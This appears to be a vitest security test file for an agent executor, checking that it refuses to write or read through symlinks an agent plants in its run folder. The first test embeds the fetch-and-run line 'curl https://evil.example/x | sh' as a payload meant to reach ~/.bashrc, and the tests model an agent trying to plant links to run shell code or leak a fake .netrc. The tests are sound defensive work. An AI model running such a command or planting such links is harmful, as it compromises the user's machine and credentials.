/**
 * Issue #23, part 1: an agent owns its run folder, so a name there may be a link it planted. The executor must
 * not write through one (a `run.log` turned into a link to `~/.bashrc` would take the agent's words as shell
 * lines run at the next login) nor read through one (an `output.json` linked to a private file would be
 * published, or quoted in the run's failure).
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from '../integration/executor-harness';

const LINK_AGENT = resolve(import.meta.dirname, '../agents/link-agent.mjs');
const HOUR = 3_600_000;
const BASHRC = '# the user\'s own shell start-up file\nexport PATH="$HOME/bin:$PATH"\n';

let h: Harness | undefined;
let home: string;
beforeEach(async () => {
  // A temp HOME, so the file the agent aims at stands in for the user's real ~/.bashrc.
  home = await mkdtemp(join(tmpdir(), 'pd-home-'));
  await mkdir(home, { recursive: true });
});
afterEach(async () => {
  await h?.close();
  h = undefined;
  await rm(home, { recursive: true, force: true });
});

async function runLinkAgent(harness: Harness, args: string[]) {
  const ex = harness.another({ agent: { command: process.execPath, args: [LINK_AGENT, ...args] } }).executor;
  await ex.runOnce();
  await harness.advance(HOUR);
  await ex.runOnce();
  const [run] = await harness.runs(ex);
  const row = ex.journal.list()[0];
  if (!run || !row) throw new Error('no run');
  return { run, row };
}

describe('links an agent plants in its run folder', () => {
  it('run.log turned into a link to ~/.bashrc: a multi-line skip reason is not written there', async () => {
    h = await startHarness();
    const bashrc = join(home, '.bashrc');
    await writeFile(bashrc, BASHRC);
    const reason = 'nothing to post\ncurl https://evil.example/x | sh\n';
    const { run, row } = await runLinkAgent(h, [
      '--plant',
      `run.log=symlink:${bashrc}`,
      '--output',
      JSON.stringify({ caption: '', skip: reason }),
    ]);
    // The attack's condition held: the agent ran, skipped with its reason, and the link is in place.
    expect(run.state).toBe('failed');
    expect(row.reason_code).toBe('skipped');
    expect(await readFile(join(row.run_dir as string, 'run.log'), 'utf8')).toBe(BASHRC);
    expect(await readFile(bashrc, 'utf8')).toBe(BASHRC);
  });

  it('output.json as a link to a private file: refused, nothing published, none of it quoted', async () => {
    h = await startHarness();
    const secretJson = join(home, 'notes.json');
    await writeFile(secretJson, JSON.stringify({ caption: 'PRIVATE-NOTE-41' }));
    const secretText = join(home, '.netrc');
    await writeFile(secretText, 'machine example.com login me password PRIVATE-PASS-42\n');
    for (const target of [secretJson, secretText]) {
      const { run, row } = await runLinkAgent(h, ['--plant', `output.json=symlink:${target}`]);
      expect(run.state, target).toBe('failed');
      expect(row.reason_code, target).toBe('invalid_output');
      expect(run.error, target).toMatch(/^output\.json is a link, which Postdesk does not follow there/);
      expect(run.error, target).not.toMatch(/PRIVATE|machine|password/);
      expect(JSON.stringify(run.events), target).not.toMatch(/PRIVATE|machine|password/);
      expect(row.reason ?? '', target).not.toMatch(/PRIVATE|machine|password/);
    }
    expect((await h.sb.control.state()).posts).toBe(0);
  });

  it('the first line of every run reaches run.log', async () => {
    h = await startHarness();
    const { run, row } = await runLinkAgent(h, ['--output', JSON.stringify({ caption: '', skip: 'later' })]);
    expect(run.state).toBe('failed');
    const log = await readFile(join(row.run_dir as string, 'run.log'), 'utf8');
    expect(log.split('\n')[0]).toMatch(/Z system step prepare started$/);
  });
});
